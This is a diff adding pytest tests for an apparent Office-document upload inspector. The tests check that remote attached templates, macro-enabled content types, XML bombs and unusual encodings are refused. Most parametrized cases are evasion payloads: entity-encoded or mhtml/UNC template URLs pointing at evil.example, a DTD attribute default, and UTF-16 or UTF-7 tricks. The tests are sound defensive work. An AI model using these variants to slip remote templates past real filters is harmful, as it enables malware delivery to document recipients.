@@ -203,6 +203,69 @@ def test_entities_and_remote_templates_are_refused(tmp_path: Path):
     inspected(tmp_path, documents.office(more={"word/_rels/settings.xml.rels": relation % b"file:///C:\\Normal.dotm"}))
 
 
+RELATION = '<Relationships><Relationship Type="x/%s" Target="%s" TargetMode="External"/></Relationships>'
+
+
+@pytest.mark.parametrize(
+    "relations",
+    [
+        RELATION % ("attachedTemplate", "&#104;ttps://evil.example/a.dotm"),
+        RELATION % ("attachedTempl&#97;te", "https://evil.example/a.dotm"),
+        RELATION % ("attachedTemplate", " ht&#10;tp://evil.example/a.dotm"),
+        RELATION % ("attachedTemplate", "mhtml:https://evil.example/a.dotm"),
+        RELATION % ("attachedTemplate", "file:////evil/a.dotm"),
+        RELATION % ("attachedTemplate", "file:///%5C%5Cevil/a.dotm"),
+        RELATION % ("attachedTemplate", "/\\evil/a.dotm"),
+        RELATION.replace("<Relationship ", "<Relationship Id='>' ") % ("attachedTemplate", "https://evil.example/a"),
+        '<?xml version="1.0" encoding="utf-16"?>' + RELATION % ("attachedTemplate", "https://evil.example/a.dotm"),
+        '<!DOCTYPE a [<!ATTLIST Relationship Type CDATA "x/attachedTemplate">]><Relationship Target="https://e.example"/>',
+    ],
+)  # fmt: skip
+def test_a_remote_template_is_refused_however_its_relation_is_written(tmp_path: Path, relations: str):
+    encoded = relations.encode("utf-16" if "utf-16" in relations else "utf-8")
+    content = documents.office(more={"word/_rels/settings.xml.rels": encoded})
+    assert refused(tmp_path, content).code == "FILE_NOT_ALLOWED"
+
+
+@pytest.mark.parametrize(
+    "target", ["Normal.dotm", "file:///C:/Users/a/Normal.dotm", "C:\\T%20a\\b.dotm", "/Users/a/b.dotm", "../b.dotm"]
+)
+def test_a_local_template_and_links_to_anywhere_are_taken(tmp_path: Path, target: str):
+    links = RELATION % ("hyperlink", "https://example.org/?a=1&amp;b=2")
+    more = {"word/_rels/settings.xml.rels": RELATION % ("attachedTemplate", target), "word/_rels/a.rels": links}
+    inspected(tmp_path, documents.office(more={name: content.encode() for name, content in more.items()}))
+
+
+@pytest.mark.parametrize(
+    ("relations", "code"),
+    [
+        (b"<" * 150_000, "FILE_DAMAGED"),
+        (b"<a>" * 1_000_000, "ARCHIVE_LIMITS"),
+        (b"<a>" + b"<b/>" * 200_000 + b"</a>", "ARCHIVE_LIMITS"),
+        (b'<a b="' + os.urandom(2_200_000).hex().encode() + b'"/>', "ARCHIVE_LIMITS"),
+        (b'<?xml version="1.0" encoding="utf-7"?><a/>', "FILE_NOT_ALLOWED"),
+        (b'<?xml version="1.0" encoding="cp037"?><a/>', "FILE_NOT_ALLOWED"),
+        (b"\xff<a/>", "FILE_DAMAGED"),
+        (b"", "FILE_DAMAGED"),
+    ],
+    ids=["brackets", "open elements", "many elements", "long", "UTF-7", "EBCDIC", "no UTF-8", "empty"],
+)
+def test_relations_that_are_no_xml_or_too_many_are_refused_soon(tmp_path: Path, relations: bytes, code: str):
+    began = time.process_time()
+    assert refused(tmp_path, documents.office(more={"_rels/.rels": relations})).code == code
+    assert time.process_time() - began < 3
+
+
+@pytest.mark.parametrize("name", ["[Content_Types].xml", "[content_types].XML"])
+def test_macros_are_refused_however_their_type_is_written(tmp_path: Path, name: str):
+    kind = "application/vnd.ms-word.document.macro&#69;nabled.main+xml"
+    types = documents.content_types("docx").replace(b"<Override", f'<Default ContentType="{kind}"/><Override'.encode())
+    parts = {"[Content_Types].xml": documents.content_types("docx"), "word/document.xml": b"<w/>", name: types}
+    refusal = refused(tmp_path, documents.zipped(parts))
+    assert refusal.code == "FILE_NOT_ALLOWED"
+    assert "macros" in refusal.message
+
+
 def test_a_doc_is_taken_and_what_only_looks_like_one_is_not(tmp_path: Path):
     inspected(tmp_path, documents.word(), "doc")
     assert refused(tmp_path, documents.word(more={"Macros/VBA": b""}), "doc").code == "FILE_NOT_ALLOWED"
